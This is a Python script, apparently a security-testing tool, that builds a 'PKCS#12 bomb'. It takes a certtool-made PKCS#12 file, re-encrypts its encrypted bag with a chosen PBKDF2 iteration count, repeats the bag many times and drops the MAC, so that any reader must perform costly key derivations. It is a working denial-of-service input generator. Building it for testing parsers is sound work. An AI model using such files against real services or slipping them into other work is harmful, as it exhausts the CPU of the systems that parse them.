# mkp12bomb.py IN.p12 OUT.p12 COUNT ITER: the first encrypted bag of IN
# (PBES2, PBKDF2-SHA256, AES-CBC, empty password: certtool's), re-encrypted
# with ITER PBKDF2 iterations and repeated COUNT times in a PKCS#12 with
# no MAC: COUNT key derivations of ITER iterations to read it.
import hashlib, subprocess, sys

def tlv(b, i):
    l = b[i + 1]; h = 2
    if l & 0x80:
        n = l & 0x7f; l = int.from_bytes(b[i + 2:i + 2 + n], 'big'); h += n
    return i + h, i + h + l             # content start, end

def kids(b, s, e):
    out = []
    while s < e:
        cs, ce = tlv(b, s); out.append((s, cs, ce)); s = ce
    return out

def enc(tag, c):
    n = len(c)
    if n < 0x80:
        L = bytes([n])
    else:
        nb = n.to_bytes((n.bit_length() + 7) // 8, 'big')
        L = bytes([0x80 | len(nb)]) + nb
    return bytes([tag]) + L + c

def aes(key, iv, data, decrypt):
    cmd = ['openssl', 'enc', '-aes-%d-cbc' % (len(key) * 8), '-K', key.hex(),
           '-iv', iv.hex(), '-nopad'] + (['-d'] if decrypt else [])
    return subprocess.run(cmd, input=data, stdout=subprocess.PIPE,
                          check=True).stdout

src, dst, count, iters = sys.argv[1], sys.argv[2], int(sys.argv[3]), \
    int(sys.argv[4])
b = open(src, 'rb').read()
pfx = kids(b, *tlv(b, 0))               # version, authSafe, mac
ver = b[pfx[0][0]:pfx[0][2]]
ci = kids(b, pfx[1][1], pfx[1][2])      # OID data, [0]
octs = kids(b, ci[1][1], ci[1][2])[0]
auth = kids(b, octs[1], octs[2])[0]
bag = None
for s, cs, ce in kids(b, auth[1], auth[2]):
    k = kids(b, cs, ce)
    if b[k[0][1]:k[0][2]] == bytes.fromhex('2a864886f70d010706'):
        bag = (k, b[k[0][0]:k[0][2]])
        break
k, oid = bag
ed = kids(b, *tlv(b, k[1][1]))          # EncryptedData: version, eci
eci = kids(b, ed[1][1], ed[1][2])       # OID, AlgId, [0] ciphertext
alg = kids(b, eci[1][1], eci[1][2])     # OID pbes2, params
kdf, cipher = kids(b, alg[1][1], alg[1][2])
kdfp = kids(b, kdf[1], kdf[2])[1]
salt_t, iter_t = kids(b, kdfp[1], kdfp[2])[:2]
salt = b[salt_t[1]:salt_t[2]]
old_iter = int.from_bytes(b[iter_t[1]:iter_t[2]], 'big')
iv_t = kids(b, cipher[1], cipher[2])[1]
iv = b[iv_t[1]:iv_t[2]]
ct = b[eci[2][1]:eci[2][2]]
klen = 16 if b'\x60\x86\x48\x01\x65\x03\x04\x01\x02' in b[cipher[1]:cipher[2]] \
    else 32
pt = aes(hashlib.pbkdf2_hmac('sha256', b'', salt, old_iter, klen), iv, ct,
         True)
ct2 = aes(hashlib.pbkdf2_hmac('sha256', b'', salt, iters, klen), iv, pt,
          False)
ib = iters.to_bytes((iters.bit_length() + 8) // 8, 'big')
kdfp2 = enc(0x30, b[salt_t[0]:salt_t[2]] + enc(0x02, ib) +
            b[iter_t[2]:kdfp[2]])
kdf2 = enc(0x30, b[kids(b, kdf[1], kdf[2])[0][0]:kdfp[0]] + kdfp2)
alg2 = enc(0x30, b[alg[0][0]:alg[0][2]] + enc(0x30, kdf2 +
           b[cipher[0]:cipher[2]]))
eci2 = enc(0x30, b[eci[0][0]:eci[0][2]] + alg2 + enc(0x80, ct2))
bag2 = enc(0x30, oid + enc(0xa0, enc(0x30, b[ed[0][0]:ed[0][2]] + eci2)))
safe = enc(0x30, bag2 * count)
authsafe = enc(0x30, b[ci[0][0]:ci[0][2]] + enc(0xa0, enc(0x04, safe)))
open(dst, 'wb').write(enc(0x30, ver + authsafe))
